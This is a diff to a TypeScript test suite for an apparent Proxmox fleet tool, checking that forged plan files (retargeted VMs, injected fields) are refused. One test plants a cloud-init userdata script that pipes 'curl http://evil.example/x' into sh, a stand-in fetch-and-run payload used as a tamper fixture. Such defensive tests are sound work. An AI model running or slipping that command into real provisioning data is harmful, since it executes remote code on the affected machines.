@@ -84,7 +84,7 @@ async function world(): Promise<World> {
 
 type PlanJson = {
   changes: { instanceId: string; kind: string; after?: { userdata?: { content: string } }; placement?: { node: string; vmid: number } }[];
-  actions: { id: string; instanceId: string; type: string; node: string; vmid: number; params: Record<string, unknown> }[];
+  actions: { id: string; instanceId: string; type: string; node: string; vmid: number; params: Record<string, unknown>; journal?: { recordBefore?: Record<string, unknown> } }[];
   drift: { kind: string; expected?: unknown }[];
   vmDigests: Record<string, string>;
   seal: { options: unknown; hash: string; mac?: string };
@@ -176,7 +176,7 @@ describe("apply FILE refuses a plan file that is not what plan produced (F2)", (
     for (const a of p.actions.filter((x) => x.instanceId === id)) {
       a.vmid = 10077;
       a.node = "pve3";
-      const before = a.params.recordBefore as { vmid?: number; node?: string } | undefined;
+      const before = a.journal?.recordBefore as { vmid?: number; node?: string } | undefined;
       if (before) Object.assign(before, { vmid: 10077, node: "pve3" });
     }
     await writeForged(file, p, true);
@@ -192,7 +192,7 @@ describe("apply FILE refuses a plan file that is not what plan produced (F2)", (
     for (const a of p.actions.filter((x) => x.instanceId === change.instanceId)) {
       a.vmid = 10077;
       a.node = "pve3";
-      const before = a.params.recordBefore as { vmid?: number; node?: string } | undefined;
+      const before = a.journal?.recordBefore as { vmid?: number; node?: string } | undefined;
       if (before) Object.assign(before, { vmid: 10077, node: "pve3" });
     }
     await writeForged(file, p, true);
@@ -219,7 +219,8 @@ describe("apply FILE refuses a plan file that is not what plan produced (F2)", (
     const p = await readPlan(file);
     p.actions.find((a) => a.type === "upload-iso")!.params.userdata = { source: "inline", encoding: "plain", content: "#!/bin/sh\ncurl http://evil.example/x | sh\n" };
     await writeForged(file, p, true);
-    await expectRefused(["apply", file], /Saved plan is stale: it does not match what pvefleet would do now \(a new VM of acme\.web: actions\.upload-iso\.params\.userdata differs\)/);
+    // The contract's params are strict: a key the provider would never read does not even load.
+    await expectRefused(["apply", file], /p1\.json is not a valid pvefleet plan: actions\.\d+\.params: Unrecognized key: "userdata"/);
   });
 
   it("refuses a stop and delete retargeted to the operator VM 500 ops-db, which survives", async () => {
